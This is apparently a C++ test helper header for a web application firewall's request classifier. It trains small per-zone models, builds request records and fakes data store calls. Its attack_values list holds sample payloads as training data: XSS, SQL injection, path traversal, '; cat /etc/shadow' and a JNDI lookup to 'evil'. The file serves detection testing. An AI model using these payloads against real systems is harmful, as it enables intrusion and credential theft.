#pragma once
// Small per-zone models built by the engine, request records and a
// classification context whose data store calls are recorded.
#include <algorithm>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "core/data/columns.h"
#include "core/data/hosts.h"
#include "ml/model_io.h"
#include "orvik/classify/processing.h"
#include "shared/pyvalues/base64.h"
#include "support/log_capture.h"
#include "support/temp_dir.h"

namespace tessel::orvik::testing {

inline const std::vector<std::string>& normal_values() {
  static const std::vector<std::string> v = {"id=15",
                                             "page=2",
                                             "sort=name",
                                             "lang=en",
                                             "user=alice",
                                             "theme=dark",
                                             "q=shoes",
                                             "color=red",
                                             "size=large",
                                             "ref=home",
                                             "/index.html",
                                             "/api/v1/users",
                                             "/shop/cart",
                                             "Mozilla/5.0 (X11; Linux x86_64)",
                                             "https://shop.test/cart",
                                             "accept: text/html",
                                             "session=abc123",
                                             "name=Bob Smith"};
  return v;
}

inline const std::vector<std::string>& attack_values() {
  static const std::vector<std::string> v = {
      "<script>alert(1)</script>",    "' or 1=1 --",       "/../../../etc/passwd",  "union select password from users",
      "<img src=x onerror=alert(1)>", "; cat /etc/shadow", "${jndi:ldap://evil/a}", "1' and sleep(5)#"};
  return v;
}

// Zones the model files of write_models hold no model for, and the zones
// each file records as left out on purpose.
struct ModelGaps {
  std::vector<std::string> skip;
  ml::ZoneNames rf_left_out, vect_left_out;
};

// Writes the two model files of `vhost` (its file-name form) into `dir`:
// every zone of core::zones() but those `gaps` skips, the address zone
// keyed "uri" as older model files have it.
inline void write_models(const std::string& dir, const std::string& vhost, const ModelGaps& gaps = {}) {
  std::vector<std::string> docs;
  std::vector<std::int64_t> y;
  for (const auto& v : normal_values()) docs.push_back(v), y.push_back(0);
  for (const auto& v : attack_values()) docs.push_back(v), y.push_back(1);
  ml::ForestMap rf;
  ml::VectorizerMap vect;
  for (const auto& z : core::zones()) {
    if (std::find(gaps.skip.begin(), gaps.skip.end(), z) != gaps.skip.end()) continue;
    const std::string key = z == "url" ? "uri" : z;
    ml::TfidfVectorizer v;
    const ml::CsrMatrix X = v.fit_transform(docs, 1);
    ml::RandomForestClassifier f(25, 7);
    f.fit(X, y, 1);
    rf.emplace(key, std::move(f));
    vect.emplace(key, std::move(v));
  }
  ml::save_file(ml::ZoneModels(std::move(rf)), dir + core::model_rf_name(vhost), gaps.rf_left_out);
  ml::save_file(ml::ZoneModels(std::move(vect)), dir + core::model_vect_name(vhost), gaps.vect_left_out);
}

// A normalised request of `vhost` with the given zone values.
inline RequestRecord request(const std::string& request_id, const std::string& vhost,
                             const std::map<std::string, std::string>& zones) {
  RequestRecord r;
  r.id = request_id + "-id";
  r.bt = 1;  // the WAF's own verdict, replaced by the classification
  r.request_id = request_id;
  r.request_type = nullptr;
  r.mz = "";
  r.ip = "10.0.0.1";
  r.vhost = vhost;
  r.method = "GET";
  for (const auto& z : core::zones()) {
    auto it = zones.find(z);
    const std::string v = it == zones.end() ? std::string() : it->second;
    (z == "url"             ? r.url
     : z == "args"          ? r.args
     : z == "cookie"        ? r.cookie
     : z == "ua"            ? r.ua
     : z == "referer"       ? r.referer
     : z == "other_headers" ? r.other_headers
                            : r.body) = v;
    r.orig_zone_data.emplace_back(z, base64_encode(v));
  }
  return r;
}

// Calls of the data store, as the fake services saw them.
struct Recorded {
  std::mutex mu;
  std::vector<std::pair<std::string, RequestTable>> staged;  // ml_vhost, rows
  std::vector<std::pair<int, Json>> published;               // kind, rows
  int mt_loads = 0;
};

// Exceptions of the exported data: zones cleared per request id.
using Exceptions = std::map<std::string, std::vector<std::string>>;

inline ClassifyServices fake_services(std::shared_ptr<Recorded> rec, Exceptions exceptions = {}) {
  ClassifyServices s;
  s.mt_data_load = [rec, exceptions](const std::string&, const LogSink&) -> FpStep {
    {
      std::lock_guard lk(rec->mu);
      ++rec->mt_loads;
    }
    return [exceptions](RequestRecord& r, const std::string&, const std::string&, std::vector<std::string>& ml_z) {
      auto it = exceptions.find(r.request_id.get<std::string>());
      if (it == exceptions.end()) return PeBt::not_run;
      std::erase_if(ml_z, [&](const std::string& z) {
        return std::find(it->second.begin(), it->second.end(), z) != it->second.end();
      });
      if (ml_z.empty()) return PeBt::cleared;
      std::string mz;
      for (const auto& z : ml_z) mz += (mz.empty() ? "" : "|") + z;
      r.mz = mz;
      return PeBt::remains;
    };
  };
  s.put_data_into_db = [rec](const RequestTable& t, const LockMap&, const std::string& ml_vhost, const std::string&,
                             const LogSink&) {
    std::lock_guard lk(rec->mu);
    rec->staged.emplace_back(ml_vhost, t);
  };
  s.rmq_bt_processing = [rec](const Json& rows, int kind, const RmqParamList&, const std::string&, const LogSink&) {
    std::lock_guard lk(rec->mu);
    rec->published.emplace_back(kind, rows);
    return true;
  };
  return s;
}

inline ClassifyContext context(const std::string& models_dir, const tessel::testing::LogCapture& logs,
                               ClassifyServices services, bool debug = false) {
  ClassifyContext cc;
  cc.models_dir = models_dir;
  cc.mt_fname = models_dir + "mt.json";
  cc.ctx.sink = logs.sink(debug);
  cc.ctx.queues.q_ec = cc.ctx.sink.q_ec;
  cc.services = std::move(services);
  return cc;
}

}  // namespace tessel::orvik::testing
